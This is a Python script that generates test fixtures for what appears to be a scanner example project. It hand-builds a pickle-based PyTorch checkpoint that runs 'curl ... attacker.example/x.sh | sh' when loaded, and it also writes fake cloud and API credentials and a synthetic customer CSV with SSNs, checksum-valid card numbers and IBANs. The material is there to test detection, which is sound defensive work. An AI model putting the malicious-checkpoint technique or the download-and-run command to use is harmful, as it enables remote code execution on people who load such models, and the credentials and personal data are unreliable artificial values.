#!/usr/bin/python3
"""Writes the example's generated files: model files, fake credentials and a synthetic PII dataset.

Run with Debian's python3 from this folder's parent:  /usr/bin/python3 tools/make_fixtures.py
Only the standard library is used. Nothing here is ever loaded or unpickled: the malicious checkpoint
is written opcode by opcode. Output is deterministic (fixed seed), so re-running changes nothing.
"""
import binascii
import json
import os
import random
import struct
import zipfile

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.dirname(HERE)
rng = random.Random(20261129)

BASE62 = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"


def rand(alphabet, n):
    return "".join(rng.choice(alphabet) for _ in range(n))


def base62(n, width):
    out = ""
    while n:
        n, r = divmod(n, 62)
        out = BASE62[r] + out
    return out.rjust(width, "0")


def github_token(prefix):
    body = rand(BASE62, 30)
    return prefix + body + base62(binascii.crc32(body.encode()) & 0xFFFFFFFF, 6)


# --- models -----------------------------------------------------------------------------------------

def pickle_str(s):
    b = s.encode()
    return b"X" + struct.pack("<I", len(b)) + b  # BINUNICODE


def malicious_pickle():
    """A state-dict-looking pickle whose REDUCE calls os.system (posix.system) with a shell pipeline."""
    p = b"\x80\x02"                                   # PROTO 2
    p += b"ccollections\nOrderedDict\n)R"            # GLOBAL collections.OrderedDict, EMPTY_TUPLE, REDUCE
    p += b"q\x00"                                     # BINPUT 0
    p += b"("                                         # MARK
    p += pickle_str("classifier.bias")
    p += b"cposix\nsystem\n"                         # GLOBAL posix.system
    p += pickle_str("curl -s http://attacker.example/x.sh | sh")
    p += b"\x85R"                                     # TUPLE1, REDUCE
    p += b"u"                                         # SETITEMS
    p += b"."                                         # STOP
    return p


def write_torch_zip(path, data_pkl):
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_STORED) as z:
        for name, data in (("archive/data.pkl", data_pkl), ("archive/version", b"3\n"),
                           ("archive/byteorder", b"little")):
            info = zipfile.ZipInfo(name, date_time=(2023, 1, 1, 0, 0, 0))
            z.writestr(info, data)


def write_safetensors(path):
    data = struct.pack("<4f", 0.5, -0.25, 1.0, 2.0) + struct.pack("<2f", 0.1, 0.2)
    header = {
        "__metadata__": {"format": "pt"},
        "classifier.weight": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]},
        "classifier.bias": {"dtype": "F32", "shape": [2], "data_offsets": [16, 24]},
    }
    h = json.dumps(header, separators=(",", ":")).encode()
    h += b" " * ((8 - len(h) % 8) % 8)
    with open(path, "wb") as f:
        f.write(struct.pack("<Q", len(h)) + h + data)


# --- credentials ------------------------------------------------------------------------------------

def write_env(path):
    aws_id = "AKIA" + rand("ABCDEFGHIJKLMNOPQRSTUVWXYZ234567", 16)
    aws_secret = rand(BASE62 + "/+", 40)
    openai = "sk-proj-" + rand(BASE62 + "-_", 20) + "T3BlbkFJ" + rand(BASE62 + "-_", 20)
    hf = "hf_" + rand("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz", 34)
    lines = [
        "# Local settings for the inference service. FAKE credentials for Bulwark's example: none of them work.",
        "AWS_ACCESS_KEY_ID=" + aws_id,
        "AWS_SECRET_ACCESS_KEY=" + aws_secret,
        "OPENAI_API_KEY=" + openai,
        "HF_TOKEN=" + hf,
        "GITHUB_TOKEN=" + github_token("ghp_"),
        # bulwark:allow secret/postgres-uri (the generator itself holds the fake URI on purpose)
        "DATABASE_URL=postgres://features:Wq8vN3zL5pXk2R@db.internal.example:5432/features",
        "MODEL_PATH=models/pytorch_model.bin",
    ]
    with open(path, "w") as f:
        f.write("\n".join(lines) + "\n")


# --- synthetic PII ----------------------------------------------------------------------------------

FIRST = ["Alice", "Bruno", "Chloe", "Dmitri", "Elena", "Farid", "Grace", "Hiro", "Ines", "Jonas",
         "Keiko", "Liam", "Maya", "Noah", "Olga", "Pedro", "Quinn", "Rosa", "Sven", "Tara"]
LAST = ["Anders", "Baker", "Costa", "Dubois", "Evans", "Fischer", "Garcia", "Hansen", "Ito", "Jensen",
        "Kowalski", "Larsen", "Moreau", "Nakamura", "Olsen", "Petrov", "Quist", "Rossi", "Schmidt", "Tanaka"]


def luhn_complete(prefix, length):
    digits = prefix + "".join(str(rng.randrange(10)) for _ in range(length - len(prefix) - 1))
    total = 0
    for i, d in enumerate(reversed(digits)):
        n = int(d)
        if i % 2 == 0:
            n *= 2
            if n > 9:
                n -= 9
        total += n
    return digits + str((10 - total % 10) % 10)


def iban_de():
    bban = "".join(str(rng.randrange(10)) for _ in range(18))
    numeric = bban + "1314" + "00"  # D=13, E=14
    check = 98 - int(numeric) % 97
    return "DE%02d%s" % (check, bban)


def ssn():
    area = rng.choice([n for n in range(1, 900) if n != 666])
    return "%03d-%02d-%04d" % (area, rng.randrange(1, 100), rng.randrange(1, 10000))


def write_customers(path):
    rows = ["customer_id,full_name,email,phone,ssn,credit_card,iban,date_of_birth,last_login_ip,churn_score"]
    for i in range(20):
        first, last = FIRST[i], LAST[(i * 7) % 20]
        issuer = rng.choice(["4", "51", "37"])
        card = luhn_complete(issuer, 15 if issuer == "37" else 16)  # Amex numbers have 15 digits
        phone = "+1 %d %03d %04d" % (rng.choice([415, 212, 312, 617, 206]), rng.randrange(200, 999), rng.randrange(10000))
        dob = "%04d-%02d-%02d" % (rng.randrange(1950, 2004), rng.randrange(1, 13), rng.randrange(1, 29))
        ip = "10.%d.%d.%d" % (rng.randrange(256), rng.randrange(256), rng.randrange(1, 255))
        rows.append(",".join([str(1000 + i), first + " " + last,
                              "%s.%s@example.com" % (first.lower(), last.lower()), phone, ssn(), card,
                              iban_de(), dob, ip, "%.3f" % rng.random()]))
    with open(path, "w") as f:
        f.write("\n".join(rows) + "\n")


if __name__ == "__main__":
    os.makedirs(os.path.join(ROOT, "models"), exist_ok=True)
    os.makedirs(os.path.join(ROOT, "data"), exist_ok=True)
    write_torch_zip(os.path.join(ROOT, "models", "pytorch_model.bin"), malicious_pickle())
    write_safetensors(os.path.join(ROOT, "models", "classifier.safetensors"))
    write_env(os.path.join(ROOT, ".env"))
    write_customers(os.path.join(ROOT, "data", "customers.csv"))
    print("wrote models/, .env and data/customers.csv")
